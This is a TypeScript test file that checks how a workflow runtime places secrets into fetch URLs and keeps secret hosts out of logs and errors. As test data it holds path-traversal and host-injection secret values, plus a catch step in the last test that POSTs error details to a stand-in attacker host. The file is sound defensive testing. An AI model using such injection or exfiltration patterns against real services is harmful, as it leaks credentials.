// Secrets in the URL: a value in the query or path arrives exactly as stored and cannot change the URL's structure; a whole-URL secret's host is never named.
import { randomBytes } from 'node:crypto';
import { http, HttpResponse } from 'msw';
import { describe, expect, it } from 'vitest';
import { EVENT } from '../../src/runtime/events.ts';
import { executeFetch } from '../../src/runtime/fetch-instruction.ts';
import { InstructionError } from '../../src/runtime/instruction-error.ts';
import { generated, makeFetchEnv, type FetchTestEnv } from '../support/msw-env.ts';
import { requestCounter, useMswServer } from '../support/msw-server.ts';
import { eventsOf, runYaml, type RunOutcome } from '../support/runtime.ts';
import { ctx, openHarness, right, type Harness } from '../support/service.ts';

const server = useMswServer();
const API = 'https://api.example.com';

const hex = (n = 12) => randomBytes(n).toString('hex');

/** A generated value holding every character that could restructure a URL, `%` escapes, a space, `+`, `/` and non-ASCII text. */
const awkwardValue = () => `ab#cd&admin=1%41zz?x=/ +é日😀-${hex()}`;

/** A secret webhook URL whose host is itself part of the secret. */
const secretHook = () => {
  const origin = `https://secret-hook-${hex(6)}.example.net`;
  return { origin, hostname: new URL(origin).hostname, url: `${origin}/hooks/${hex()}` };
};

const withSecrets = async (secrets: Record<string, { value: unknown; allowedHosts?: string[] }>): Promise<Harness> => {
  const h = await openHarness();
  for (const [name, s] of Object.entries(secrets))
    right(await h.service.set(ctx(), { name, value: s.value, scope: 'workspace', ...(s.allowedHosts === undefined ? {} : { allowedHosts: s.allowedHosts }) }));
  return h;
};

/** Everything a run let out: events, logs and the result (output or error). */
const published = (o: RunOutcome): string => [...o.lines, JSON.stringify(o.result)].join('\n');

/** The raw error of one fetch (before any redaction), and what it would show as an error object. */
const failure = async (t: FetchTestEnv, instr: Parameters<typeof executeFetch>[0]): Promise<{ error: InstructionError; text: string }> => {
  const e = await executeFetch(instr, t.env, 'do[0]').catch((x: unknown) => x);
  expect(e).toBeInstanceOf(InstructionError);
  const error = e as InstructionError;
  return { error, text: `${error.message}\n${JSON.stringify(error.toObject())}` };
};

describe('a secret inside URL text arrives as the value and cannot change the URL', () => {
  it('in the query of the url: the API reads exactly the value as the parameter, and nothing else is added', async () => {
    const value = awkwardValue();
    const h = await withSecrets({ key: { value } });
    let params: [string, string][] = [];
    let url = '';
    server.use(http.get(`${API}/p`, ({ request }) => ((url = request.url), (params = [...new URL(request.url).searchParams]), HttpResponse.json({ ok: true }))));
    const o = await runYaml(`do:\n  - fetch: {url: "${API}/p?key={{secret.key}}&after=1", output: r}\noutput: "{{r}}"\n`, { harness: h });
    expect(o.result.status).toBe('succeeded');
    expect(params).toEqual([
      ['key', value],
      ['after', '1'],
    ]);
    expect(new URL(url).hash).toBe('');
    expect(published(o)).not.toContain(value.slice(-24));
    expect(published(o)).not.toContain(encodeURIComponent(value));
  });

  it('in the path of the url: the API reads exactly the value as the segment, its slashes kept as separators', async () => {
    const value = awkwardValue();
    const h = await withSecrets({ id: { value } });
    let path = '';
    let search = '?unset';
    server.use(http.get(`${API}/items/*`, ({ request }) => ((path = new URL(request.url).pathname), (search = new URL(request.url).search), HttpResponse.json({ ok: true }))));
    const o = await runYaml(`do:\n  - fetch: {url: "${API}/items/{{secret.id}}/detail", output: r}\n`, { harness: h });
    expect(o.result.status).toBe('succeeded');
    expect(search).toBe('');
    expect(path.startsWith('/items/') && path.endsWith('/detail')).toBe(true);
    const segments = path.slice('/items/'.length, -'/detail'.length).split('/').map(decodeURIComponent);
    expect(segments.join('/')).toBe(value);
    expect(segments).toEqual(value.split('/'));
    expect(published(o)).not.toContain(value.slice(-24));
  });

  it('a webhook path secret with slashes (T000/B000/XXXX) goes into the path as it is', async () => {
    const value = `T${hex(4)}/B${hex(4)}/${hex()}`;
    const h = await withSecrets({ hook: { value } });
    let path = '';
    server.use(http.post('https://hooks.example.com/services/*', ({ request }) => ((path = new URL(request.url).pathname), HttpResponse.text('ok'))));
    const o = await runYaml(`do:\n  - fetch: {url: "https://hooks.example.com/services/{{secret.hook}}", method: POST, body: {text: hi}}\n`, { harness: h });
    expect(o.result.status).toBe('succeeded');
    expect(path).toBe(`/services/${value}`);
    expect(published(o)).not.toContain(value);
  });

  it('the encoded form placed in the url is registered with the masks when it differs from the value', async () => {
    const t = await makeFetchEnv();
    const value = `it's (${generated()})/x y`;
    const ref = await t.secret('id', value);
    server.use(http.get(`${API}/*`, () => HttpResponse.json({})));
    await executeFetch({ url: `${API}/a/${ref}?q=${ref}` }, t.env, 'do[0]');
    expect(t.masks.exact).toEqual(expect.arrayContaining([`it's%20(${value.slice(6, -5)})/x%20y`, `it%27s%20(${value.slice(6, -5)})%2Fx%20y`, encodeURIComponent(value)]));
  });

  it('a value that would make a "." or ".." path segment is refused before anything is sent', async () => {
    const t = await makeFetchEnv();
    const counter = requestCounter();
    server.use(http.all(`${API}/*`, ({ request }) => (counter.hit(request), HttpResponse.json({}))));
    for (const value of [`../admin-${hex()}`, `x-${hex()}/..`, `./${hex()}`]) {
      const ref = await t.secret('p', value);
      const { error, text } = await failure(t, { url: `${API}/files/${ref}` });
      expect(error.code).toBe('reference_in_url_dot_segment');
      expect(text).not.toContain(value);
    }
    expect(counter.total()).toBe(0);
  });

  it('dots that are only part of a segment, or dots written in the url itself, are not refused', async () => {
    const t = await makeFetchEnv();
    const value = `..${hex()}./v1.2`;
    const ref = await t.secret('p', value);
    let path = '';
    server.use(http.get(`${API}/*`, ({ request }) => ((path = new URL(request.url).pathname), HttpResponse.json({}))));
    await executeFetch({ url: `${API}/a/../files/${ref}` }, t.env, 'do[0]');
    expect(path).toBe(`/files/${value}`);
  });

  it('a reference the URL parser would read as the host (https:<ref>, https:/<ref>) is refused as in the authority', async () => {
    const t = await makeFetchEnv();
    const ref = await t.secret('h', `evil-${hex()}.example.net`);
    for (const url of [`https:${ref}/x`, `https:/${ref}/x`, `https:\\\\${ref}/x`, ` https:${ref}`, `ht\ttps://${ref}/`]) {
      const { error } = await failure(t, { url });
      expect(error.code).toBe('reference_in_url_authority');
    }
  });

  it('a reference right after a whole-URL secret with no path yet is refused as in the authority: its value would join the host', async () => {
    const t = await makeFetchEnv();
    const counter = requestCounter();
    server.use(http.all('*', ({ request }) => (counter.hit(request), HttpResponse.json({}))));
    const base = await t.secret('base', API);
    const sub = await t.secret('sub', `.attacker-${hex()}.example.net`);
    for (const url of [`${base}${sub}/x`, `${base}.${sub}`]) {
      const { error } = await failure(t, { url });
      expect(error.code).toBe('reference_in_url_authority');
    }
    expect(counter.total()).toBe(0);
  });
});

describe('a whole-URL secret: its host is never named', () => {
  it('a successful call reaches the secret URL; events, logs and output report the host as null and never contain it', async () => {
    const hook = secretHook();
    const h = await withSecrets({ hook: { value: hook.url } });
    let reached = '';
    server.use(http.post(`${hook.origin}/hooks/*`, ({ request }) => ((reached = request.url), HttpResponse.json({ ok: true, from: new URL(request.url).host }))));
    const o = await runYaml(`do:\n  - fetch: {url: "{{secret.hook}}", method: POST, body: {text: hi}, output: r}\noutput: "{{r}}"\n`, { harness: h });
    expect(o.result.status).toBe('succeeded');
    expect(reached).toBe(hook.url);
    expect(eventsOf(o, EVENT.secretResolved)).toEqual([{ name: 'hook', scope: 'workspace', outcome: 'resolved', host: null }]);
    expect(o.logs.map((l) => l.data)).toContainEqual(expect.objectContaining({ method: 'POST', host: null, status: 200 }));
    expect(published(o)).not.toContain(hook.hostname);
  });

  it('a secret URL followed by a path and a query in the url still works, the host still unnamed', async () => {
    const t = await makeFetchEnv();
    const hook = secretHook();
    const ref = await t.secret('base', hook.origin);
    const value = awkwardValue();
    const refKey = await t.secret('key', value);
    let got: string | null = null;
    server.use(http.get(`${hook.origin}/v1/items`, ({ request }) => ((got = new URL(request.url).searchParams.get('key')), HttpResponse.json({}))));
    await executeFetch({ url: `${ref}/v1/items?key=${refKey}` }, t.env, 'do[0]');
    expect(got).toBe(value);
    expect(t.events.filter((e) => e.type === EVENT.secretResolved).map((e) => (e.payload as { host: unknown }).host)).toEqual([null, null]);
    expect(t.logs.map((l) => l.message).join('\n')).not.toContain(hook.hostname);
    expect(t.masks.exact).toContain(hook.hostname);
  });

  it('a network error names "the secret URL\'s host", not the host', async () => {
    const t = await makeFetchEnv();
    const hook = secretHook();
    const ref = await t.secret('hook', hook.url);
    server.use(http.all(`${hook.origin}/*`, () => HttpResponse.error()));
    const { error, text } = await failure(t, { url: ref, method: 'POST', body: { a: 1 } });
    expect(error.code).toBe('fetch_network_error');
    expect(error.message).toContain("the secret URL's host");
    expect(text).not.toContain(hook.hostname);
    expect(JSON.stringify([t.events, t.logs])).not.toContain(hook.hostname);
  });

  it('a refused redirect names neither the secret host nor, when it is the same host, the location', async () => {
    const t = await makeFetchEnv();
    const hook = secretHook();
    const ref = await t.secret('hook', hook.url);
    server.use(http.all(`${hook.origin}/*`, () => new HttpResponse(null, { status: 302, headers: { Location: 'https://elsewhere.example.org/landing' } })));
    const away = await failure(t, { url: ref });
    expect(away.error.code).toBe('redirect_refused');
    expect(away.text).toContain('elsewhere.example.org');
    expect(away.text).not.toContain(hook.hostname);

    server.use(http.all(`${hook.origin}/*`, () => new HttpResponse(null, { status: 302, headers: { Location: `http://${hook.hostname}/plain` } })));
    const downgrade = await failure(t, { url: ref });
    expect(downgrade.error.code).toBe('redirect_refused');
    expect(downgrade.text).not.toContain(hook.hostname);
    expect(JSON.stringify([t.events, t.logs])).not.toContain(hook.hostname);
  });

  it('a host_not_allowed refusal names neither the secret host nor an allow-list that may hold it', async () => {
    const t = await makeFetchEnv();
    const hook = secretHook();
    const refHook = await t.secret('hook', hook.url);
    const refToken = await t.secret('token', generated(), { allowedHosts: ['api.example.com'] });
    const counter = requestCounter();
    server.use(http.all(`${hook.origin}/*`, ({ request }) => (counter.hit(request), HttpResponse.json({}))));
    const other = await failure(t, { url: refHook, headers: { Authorization: `Bearer ${refToken}` } });
    expect(other.error.code).toBe('host_not_allowed');
    expect(other.error.message).toContain("the secret URL's host");
    expect(other.text).not.toContain(hook.hostname);

    const plain = hook.url.replace('https:', 'http:');
    const refPlain = await t.secret('plainHook', plain, { allowedHosts: [hook.hostname] });
    const own = await failure(t, { url: refPlain });
    expect(own.error.code).toBe('host_not_allowed');
    expect(own.text).not.toContain(hook.hostname);
    expect(counter.total()).toBe(0);
    const audits = t.events.filter((e) => e.type === EVENT.secretResolved).map((e) => e.payload as { outcome: string; host: unknown });
    expect(audits.filter((a) => a.outcome === 'host_not_allowed').length).toBeGreaterThan(0);
    expect(audits.every((a) => a.host === null)).toBe(true);
    expect(JSON.stringify([t.events, t.logs])).not.toContain(hook.hostname);
  });

  it('an awsv4 request to a secret URL whose region cannot be inferred does not name the host', async () => {
    const t = await makeFetchEnv();
    const hook = secretHook();
    const ref = await t.secret('hook', hook.url);
    const { error, text } = await failure(t, { url: ref, auth: { awsv4: { accessKeyId: 'AKIDEXAMPLE', secretAccessKey: generated() } } });
    expect(error.code).toBe('invalid_parameter');
    expect(error.message).toContain("the secret URL's host");
    expect(text).not.toContain(hook.hostname);
  });

  it('a caught error about a secret URL, sent on to another API, does not carry its host', async () => {
    const hook = secretHook();
    const h = await withSecrets({ hook: { value: hook.url } });
    const received: string[] = [];
    server.use(
      http.all(`${hook.origin}/*`, () => HttpResponse.error()),
      http.post('https://attacker.example/c', async ({ request }) => (received.push(await request.text()), HttpResponse.json({}))),
    );
    const o = await runYaml(
      `do:
  - try:
      do: [{fetch: {url: "{{secret.hook}}"}}]
      catch: [{fetch: {url: "https://attacker.example/c", method: POST, body: {m: "{{error.message}}", e: "{{error}}"}}}]
`,
      { harness: h },
    );
    expect(received).toHaveLength(1);
    expect(received[0]).toContain('fetch_network_error');
    expect(received[0]).not.toContain(hook.hostname);
    expect(published(o)).not.toContain(hook.hostname);
  });
});
